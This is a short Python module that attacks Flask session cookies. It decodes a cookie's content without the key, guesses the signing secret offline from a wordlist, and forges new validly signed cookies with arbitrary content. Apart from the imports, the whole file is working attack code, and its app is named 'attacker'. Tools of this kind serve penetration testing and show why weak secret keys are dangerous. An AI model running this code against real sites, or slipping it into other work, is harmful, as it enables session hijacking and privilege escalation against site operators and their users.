"""Do what anyone can do who has a session cookie: read it, guess its key, write another one."""

import json
import zlib
from base64 import urlsafe_b64decode
from collections.abc import Iterable, Mapping
from typing import Any

from flask import Flask
from flask.sessions import SecureCookieSessionInterface
from itsdangerous import BadSignature, URLSafeTimedSerializer


def read_content(cookie: str) -> Any:
    """Return the content of a session cookie, or None if there is none. This needs no key."""
    text = cookie.removeprefix(".").partition(".")[0]
    try:
        data = urlsafe_b64decode(text + "=" * (-len(text) % 4))
        if cookie.startswith("."):  # longer content is compressed
            data = zlib.decompressobj().decompress(data, 100_000)
        return json.loads(data)
    except (ValueError, zlib.error, RecursionError):
        return None


def make_serializer(key: str) -> URLSafeTimedSerializer:
    """Return the object with which Flask signs sessions, for a key of our choice."""
    app = Flask("attacker")
    app.secret_key = key
    return SecureCookieSessionInterface().get_signing_serializer(app)


def guess_key(cookie: str, words: Iterable[str]) -> str | None:
    """Return the word that signed the cookie. No server sees these attempts."""
    for word in words:
        try:
            make_serializer(word).loads(cookie)
        except BadSignature:
            continue
        return word
    return None


def forge_cookie(content: Mapping[str, Any], key: str) -> str:
    """Return a session cookie with any content, once the key is known."""
    return make_serializer(key).dumps(dict(content))
